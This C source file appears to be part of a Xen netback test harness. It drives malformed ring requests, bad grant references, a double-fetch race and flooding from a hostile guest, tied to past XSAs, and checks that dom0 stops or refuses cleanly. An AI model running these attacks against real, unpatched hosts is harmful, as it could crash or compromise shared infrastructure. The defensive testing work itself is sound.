// SPDX-License-Identifier: GPL-2.0
/* Attacks through the shared rings of a vif. */
#include "net_attack.h"

#include <string.h>

#define NO_GREF		0x1ff0u
#define MAD_GREF	0xfffffff0u

/* ---- indices (XSA-39) */

static void attack_tx_producer_ahead(struct net *net)
{
	net_connect(net, &net_plain);
	net_echo(&net->queues[0], 64);
	net->queues[0].tx.s->req_prod = net->queues[0].tx.prod + NET_SLOTS + 1;
	net_notify(&net->queues[0], &net->queues[0].tx);
}

static void attack_tx_producer_back(struct net *net)
{
	net_connect(net, &net_plain);
	net_echo(&net->queues[0], 64);
	net->queues[0].tx.s->req_prod = net->queues[0].tx.prod - 2;
	net_notify(&net->queues[0], &net->queues[0].tx);
}

/* dom0 looks at the RX ring when it has something to send. */
static void attack_rx_producer_ahead(struct net *net)
{
	struct net_queue *queue = &net->queues[0];
	struct pages pages;
	unsigned int size[1];

	net_connect(net, &net_plain);
	net_echo(queue, 64);
	queue->rx.s->req_prod = queue->rx.prod + 10000;
	net_notify(queue, &queue->rx);
	pages = pages_share(&net->front, 1, true);
	size[0] = net_make_echo(pages.addr, 64, 0x7200);
	net_send(queue, &pages, size, 1, 0);
	front_stopped(&net->front);
}

static void attack_producer_born(struct net *net)
{
	front_reset(&net->front);
	net_offer_rings(net, &net_plain);
	net->queues[0].tx.s->req_prod = 1000;
	front_state(&net->front, CONNECTED);
}

/* ---- packets after which a frontend is not trusted any more */

static void fatal_packet(struct net *net, const struct net_tx *tx,
			 const struct net_extra_info *extras, unsigned int nr)
{
	struct net_queue *queue = &net->queues[0];
	struct net_tx first = *tx;
	struct pages pages;
	unsigned int i;

	net_connect(net, &net_plain);
	net_echo(queue, 64);
	pages = pages_share(&net->front, 1, true);
	first.gref = pages.refs[0];
	net_put_tx(queue, &first);
	for (i = 0; i < nr; i++)
		net_put_extra(queue, &extras[i]);
	net_push(queue, &queue->tx);
	front_stopped(&net->front);
}

static void attack_crosses_page(struct net *net)
{
	struct net_tx tx = { .offset = 4000, .size = 200 };

	fatal_packet(net, &tx, NULL, 0);
}

static void attack_size_overflow(struct net *net)
{
	struct net_tx tx = { .offset = 0xfff0, .size = 0xfff0 };

	fatal_packet(net, &tx, NULL, 0);
}

static void attack_gso_zero(struct net *net)
{
	struct net_tx tx = { .size = 1000, .flags = EXTRA_INFO };
	struct net_extra_info gso = { .type = EXTRA_GSO,
				      .u = { 0, 0, 1 } };

	fatal_packet(net, &tx, &gso, 1);
}

static void attack_gso_type(struct net *net)
{
	struct net_tx tx = { .size = 1000, .flags = EXTRA_INFO };
	struct net_extra_info gso = { .type = EXTRA_GSO,
				      .u = { 100, 0, 77 } };

	fatal_packet(net, &tx, &gso, 1);
}

static void attack_extra_unknown(struct net *net)
{
	struct net_tx tx = { .size = 1000, .flags = EXTRA_INFO };
	struct net_extra_info extra = { .type = 200 };

	fatal_packet(net, &tx, &extra, 1);
}

/* Extra infos without an end. */
static void attack_extra_chain(struct net *net)
{
	struct net_tx tx = { .size = 1000, .flags = EXTRA_INFO };
	struct net_extra_info extras[200];
	unsigned int i;

	for (i = 0; i < ARRAY_SIZE(extras); i++)
		extras[i] = (struct net_extra_info){ EXTRA_HASH, 1, {} };
	fatal_packet(net, &tx, extras, ARRAY_SIZE(extras));
}

/* More slots than any packet may have (XSA-432 and its like). */
static void attack_many_slots(struct net *net)
{
	struct net_queue *queue = &net->queues[0];
	struct pages pages;
	unsigned int i;

	net_connect(net, &net_plain);
	pages = pages_share(&net->front, 1, true);
	for (i = 0; i < 200; i++) {
		struct net_tx tx = { .gref = pages.refs[0], .size = i ? 1 : 500,
				     .flags = MORE_DATA };

		net_put_tx(queue, &tx);
	}
	net_push(queue, &queue->tx);
	front_stopped(&net->front);
}

/* ---- packets that are dropped, each slot answered */

static void dropped(struct net_queue *queue, const struct pages *pages,
		    unsigned int nr, unsigned int first, unsigned int rest)
{
	uint16_t id = queue->tx.prod;
	struct net_tx_rsp rsp;
	unsigned int i;

	for (i = 0; i < nr; i++) {
		struct net_tx tx = { .gref = pages->refs[0],
				     .size = i ? rest : first,
				     .flags = i + 1 < nr ? MORE_DATA : 0 };

		net_put_tx(queue, &tx);
	}
	net_push(queue, &queue->tx);
	for (i = 0; i < nr; i++) {
		net_next_tx(queue, &rsp);
		if (rsp.status >= 0 || rsp.id != (uint16_t)(id + i))
			die("%u slots of %u and %u: status %d of %u", nr,
			    first, rest, rsp.status, rsp.id);
	}
}

static void attack_bad_packets(struct net *net)
{
	struct net_queue *queue = &net->queues[0];
	struct pages pages;
	unsigned int i;

	net_connect(net, &net_plain);
	pages = pages_share(&net->front, 1, true);
	for (i = 0; i < 14; i++)
		dropped(queue, &pages, 1, i, 0);
	dropped(queue, &pages, 2, 100, 101);
	dropped(queue, &pages, 3, 100, 60);
	dropped(queue, &pages, 18, 4000, 4000);
	dropped(queue, &pages, 19, 1000, 10);
	dropped(queue, &pages, 20, 1000, 10);
	net_echo(queue, 100);
	pages_unshare(&net->front, &pages);
}

/* No data at all in the slots behind the first (XSA-448). */
static void attack_zero_slots(struct net *net)
{
	struct net_queue *queue = &net->queues[0];
	struct pages pages;
	unsigned int nr, size[1];

	net_connect(net, &net_plain);
	pages = pages_share(&net->front, 1, true);
	size[0] = net_make_echo(pages.addr, 64, 0x7300);
	for (nr = 2; nr <= 18; nr++) {
		unsigned int i;

		for (i = 0; i < nr; i++) {
			struct net_tx tx = { .gref = i ? NO_GREF :
							 pages.refs[0],
					     .size = i ? 0 : size[0],
					     .flags = i + 1 < nr ? MORE_DATA :
								   0 };
			net_put_tx(queue, &tx);
		}
		net_push(queue, &queue->tx);
		net_expect_tx(queue, nr, NET_OKAY);
	}
	pages_unshare(&net->front, &pages);
}

/* ---- grants (XSA-361, XSA-362) */

static void attack_tx_bad_grants(struct net *net)
{
	struct net_queue *queue = &net->queues[0];
	struct pages pages, others;
	unsigned int round, i;

	net_connect(net, &net_plain);
	pages = pages_share(&net->front, 1, true);
	others = pages_share_with(&net->front, 7, 1);
	for (round = 0; round < 90; round++) {
		const uint32_t bad[] = { NO_GREF, MAD_GREF, others.refs[0] };
		unsigned int nr = 1 + round % 18;

		net_make_echo(pages.addr, 1000, 0x7400);
		for (i = 0; i < nr; i++) {
			struct net_tx tx = {
				.gref = i == round % nr ? bad[round % 3] :
							  pages.refs[0],
				.size = i ? 50 : 1042,
				.flags = i + 1 < nr ? MORE_DATA : 0 };

			net_put_tx(queue, &tx);
		}
		net_push(queue, &queue->tx);
		net_expect_tx(queue, nr, NET_ERROR);
	}
	net_echo(queue, 500);
	pages_unshare(&net->front, &pages);
	pages_unshare(&net->front, &others);
}

/* Buffers that dom0 cannot write to: packets are lost, nothing else. */
static void attack_rx_bad_grants(struct net *net)
{
	struct net_conf deaf = { .deaf = true };
	struct net_queue *queue = &net->queues[0];
	struct pages readonly, pages;
	unsigned int i, errors = 0, size[1];
	struct net_rx_rsp rsp;

	net_connect(net, &deaf);
	readonly = pages_share(&net->front, 1, false);
	pages = pages_share(&net->front, 1, true);
	for (i = 0; i < 128; i++) {
		const uint32_t bad[] = { NO_GREF, MAD_GREF, readonly.refs[0] };

		net_put_rx(queue, i % NET_BUFFERS, bad[i % 3]);
	}
	net_push(queue, &queue->rx);
	net_notify(queue, &queue->rx);
	size[0] = net_make_echo(pages.addr, 64, 0x7500);
	for (i = 0; i < 40; i++) {
		net_send(queue, &pages, size, 1, 0);
		net_expect_tx(queue, 1, NET_OKAY);
	}
	for (i = 0; i < 2000 && errors < 40; i++) {
		while (net_poll_rx(queue, &rsp))
			errors += rsp.status < 0;
		nap(5000);
	}
	if (errors < 40)
		die("%u of 40 packets were answered with an error", errors);
	pages_unshare(&net->front, &readonly);
	pages_unshare(&net->front, &pages);
	net_close(net);
}

/* ---- XSA-155: what is checked and what is used must be the same copy */

struct hammer {
	struct net_queue *queue;
	volatile bool stop, stopped;
};

/*
 * Sizes and grants change; no packet becomes a fatal one for certain. Where a
 * grant was lies the response.
 */
static void *hammer_slots(void *arg)
{
	struct hammer *hammer = arg;
	uint32_t n = 1;

	while (!hammer->stop) {
		struct net_tx *tx = net_slot(&hammer->queue->tx, n >> 7);

		n = n * 1664525 + 1013904223;
		*(volatile uint16_t *)&tx->size = n >> 20;
		*(volatile uint32_t *)&tx->gref = n | 1u << 31;
	}
	hammer->stopped = true;
	return NULL;
}

static void attack_double_fetch(struct net *net)
{
	struct net_queue *queue = &net->queues[0];
	struct hammer hammer = { queue };
	struct net_tx_rsp rsp;
	struct pages pages;
	unsigned int round, i;

	net_connect(net, &net_plain);
	pages = pages_share(&net->front, 1, true);
	queue->ids.unknown = true;
	thread_start(hammer_slots, &hammer);
	for (round = 0; round < often(40); round++) {
		for (i = 0; i < 200; i++) {
			struct net_tx tx = { .gref = pages.refs[0],
					     .size = 200 };

			net_put_tx(queue, &tx);
		}
		net_push(queue, &queue->tx);
		for (i = 0; i < 200; i++)
			net_next_tx(queue, &rsp);
	}
	hammer.stop = true;
	while (!hammer.stopped)
		nap(1000);
	pages_unshare(&net->front, &pages);
}

/* Any bytes; the backend may stop at any of them. */
static void attack_noise(struct net *net)
{
	struct net_queue *queue = &net->queues[0];
	uint32_t n = 7;
	unsigned int i, byte;

	net_connect(net, &net_plain);
	queue->ids.unknown = true;
	for (i = 0; i < NET_SLOTS; i++) {
		uint8_t *slot = net_slot(&queue->tx, queue->tx.prod++);

		for (byte = 0; byte < sizeof(struct net_tx); byte++) {
			n = n * 1664525 + 1013904223;
			slot[byte] = n >> 24;
		}
	}
	net_push(queue, &queue->tx);
	front_stopped(&net->front);
}

/* ---- XSA-392: a guest that takes nothing, while dom0 sends */

static void attack_deaf(struct net *net)
{
	struct net_conf deaf = { .deaf = true };
	struct net_queue *queue = &net->queues[0];
	struct pages pages;
	unsigned int i, size[1];

	net_connect(net, &deaf);
	pages = pages_share(&net->front, 1, true);
	size[0] = net_make_echo(pages.addr, 1400, 0x7600);
	for (i = 0; i < often(1000); i++) {
		net_send(queue, &pages, size, 1, 0);
		net_expect_tx(queue, 1, NET_OKAY);
	}
	pages_unshare(&net->front, &pages);
	net_close(net);
}

/* More addresses than a filter holds. */
static void attack_mcast_flood(struct net *net)
{
	struct net_queue *queue = &net->queues[0];
	struct net_extra_info extra = { .type = EXTRA_MCAST_ADD,
					.u = { 1, 0, 0x5e } };
	struct net_tx tx = { .flags = EXTRA_INFO };
	struct net_tx_rsp rsp;
	unsigned int i, refused = 0;

	net_connect(net, &net_plain);
	for (i = 0; i < 1000; i++) {
		extra.u[4] = i >> 8;
		extra.u[5] = i;
		net_put_tx(queue, &tx);
		net_put_extra(queue, &extra);
		net_push(queue, &queue->tx);
		net_next_tx(queue, &rsp);
		refused += rsp.status < 0;
		net_next_tx(queue, &rsp);
	}
	if (refused < 900)
		die("only %u of 1000 addresses were refused", refused);
}

const struct net_attack net_ring_attacks[] = {
	{ "tx-producer-ahead", "XSA-39", NET_STOPPED,
	  attack_tx_producer_ahead },
	{ "tx-producer-back", "XSA-39", NET_STOPPED, attack_tx_producer_back },
	{ "rx-producer-ahead", "XSA-39", NET_STOPPED,
	  attack_rx_producer_ahead },
	{ "producer-born", "XSA-39", NET_STOPPED, attack_producer_born },
	{ "crosses-page", "XSA-432", NET_STOPPED, attack_crosses_page },
	{ "size-overflow", "XSA-432", NET_STOPPED, attack_size_overflow },
	{ "gso-zero", "netif.h", NET_STOPPED, attack_gso_zero },
	{ "gso-type", "netif.h", NET_STOPPED, attack_gso_type },
	{ "extra-unknown", "XSA-90", NET_STOPPED, attack_extra_unknown },
	{ "extra-chain", "XSA-90", NET_STOPPED, attack_extra_chain },
	{ "many-slots", "XSA-90,XSA-432", NET_STOPPED, attack_many_slots },
	{ "noise", "XSA-90,XSA-374", NET_STOPPED, attack_noise },
	{ "bad-packets", "XSA-39", NET_ANSWERED, attack_bad_packets },
	{ "zero-slots", "XSA-448", NET_ANSWERED, attack_zero_slots },
	{ "tx-bad-grants", "XSA-361,XSA-362", NET_ANSWERED,
	  attack_tx_bad_grants },
	{ "rx-bad-grants", "XSA-361,XSA-362", NET_ANSWERED,
	  attack_rx_bad_grants },
	{ "double-fetch", "XSA-155", NET_ANSWERED, attack_double_fetch },
	{ "deaf", "XSA-392", NET_ANSWERED, attack_deaf },
	{ "mcast-flood", "CVE-2026-100081", NET_ANSWERED, attack_mcast_flood },
};

const unsigned int net_nr_ring_attacks = ARRAY_SIZE(net_ring_attacks);
